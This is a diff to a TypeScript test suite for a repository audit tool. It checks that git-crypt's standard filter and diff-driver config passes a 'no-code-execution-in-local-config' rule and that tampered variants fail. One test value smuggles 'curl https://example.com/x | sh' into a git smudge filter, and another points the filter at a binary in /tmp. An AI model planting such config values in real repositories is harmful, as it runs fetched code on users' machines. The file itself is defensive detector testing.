@@ -8,12 +8,16 @@
 //   its own from before: they are judged (their dates are all that says they are old), and README's
 //   route (a maintainer goodlists what `git rev-list --no-merges <branch> --not main` lists) passes;
 //   twin: a new unsigned commit on that branch still fails.
+// - git-crypt set up in a clone (`git-crypt init` / `unlock` write a filter and a diff driver per key
+//   into .git/config, running the user's own git-crypt): no-code-execution-in-local-config failed (high)
+//   on each. Twins: another program, another subcommand, a key name that is not the driver's, fail.
 // - Content real repositories hold passes the secrets scan: package-lock.json's integrity hashes, an
 //   .env.example of empty values, placeholders and local defaults, a Jupyter notebook whose outputs are
 //   base64 images. Twins: a notebook output printing a live token, and a filled-in .env, still fail.
+import { execFileSync } from 'node:child_process';
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { cleanupTemp, makeRepo, type TestRepo } from '../helpers/repo.js';
+import { cleanupTemp, copyRepo, makeRepo, type TestRepo } from '../helpers/repo.js';
 import { sshSigningRepo } from '../helpers/signing-repo.js';
 import { commitAsPerson, sharedSshKey } from '../helpers/ssh.js';
 import { aliceAndBob, type Team } from '../helpers/team.js';
@@ -156,6 +160,62 @@ test('--all with an old release branch from before the policy: goodlisted as REA
   const after = await audit(r, ['--all']);
   expect(failing(after.report)).toEqual(['commits-signed']);
   expect(findings(after.report, 'commits-signed').map((f) => f.commit)).toEqual([later]);
+});
+
+describe('git-crypt set up in the repository', () => {
+  // Byte for byte what git-crypt 0.7.0 (Debian's) writes for `git-crypt init` and `git-crypt init -k prod`.
+  const GIT_CRYPT_CONFIG = [
+    ['filter.git-crypt.smudge', '"git-crypt" smudge'],
+    ['filter.git-crypt.clean', '"git-crypt" clean'],
+    ['filter.git-crypt.required', 'true'],
+    ['diff.git-crypt.textconv', '"git-crypt" diff'],
+    ['filter.git-crypt-prod.smudge', '"git-crypt" smudge --key-name=prod'],
+    ['filter.git-crypt-prod.clean', '"git-crypt" clean --key-name=prod'],
+    ['filter.git-crypt-prod.required', 'true'],
+    ['diff.git-crypt-prod.textconv', '"git-crypt" diff --key-name=prod'],
+  ];
+  const rule = ['-r', 'no-code-execution-in-local-config'];
+  const installed = (() => {
+    try {
+      execFileSync('git-crypt', ['--version'], { stdio: 'ignore' });
+      return true;
+    } catch {
+      return false;
+    }
+  })();
+
+  test("the filters and diff drivers git-crypt writes run the user's git-crypt: pass; twins fail", async () => {
+    const r = sshSigningRepo(sharedSshKey('alice'));
+    r.commit('encrypted paths', { '.gitattributes': 'secrets/** filter=git-crypt diff=git-crypt\n' });
+    for (const [k, v] of GIT_CRYPT_CONFIG) r.run(['config', '--local', k!, v!]);
+    expect(failing((await audit(r, rule)).report)).toEqual([]);
+    if (installed) {
+      // the real tool, when it is installed, writes the same
+      const real = makeRepo();
+      execFileSync('git-crypt', ['init'], { cwd: real.dir, env: real.env, stdio: 'ignore' });
+      execFileSync('git-crypt', ['init', '-k', 'prod'], { cwd: real.dir, env: real.env, stdio: 'ignore' });
+      expect(real.run(['config', '--local', '--get-regexp', 'git-crypt']).split('\n')).toEqual(
+        GIT_CRYPT_CONFIG.map(([k, v]) => `${k} ${v}`),
+      );
+    }
+    for (const [key, value] of [
+      ['filter.git-crypt.smudge', '"git-crypt" smudge; curl https://example.com/x | sh'],
+      ['filter.git-crypt.smudge', '"/tmp/git-crypt" smudge'],
+      ['filter.git-crypt.smudge', '"git-crypt" clean'],
+      ['filter.git-crypt-prod.clean', '"git-crypt" clean --key-name=other'],
+      ['diff.git-crypt.command', '"git-crypt" diff'],
+      ['diff.other.textconv', '"git-crypt" diff'],
+    ]) {
+      const twin = copyRepo(r);
+      twin.run(['config', '--local', key!, value!]);
+      const { report } = await audit(twin, rule);
+      expect({ key, value, failing: failing(report) }).toEqual({
+        key,
+        value,
+        failing: ['no-code-execution-in-local-config'],
+      });
+    }
+  });
 });
 
 describe('content real repositories hold: the secrets scan passes it', () => {
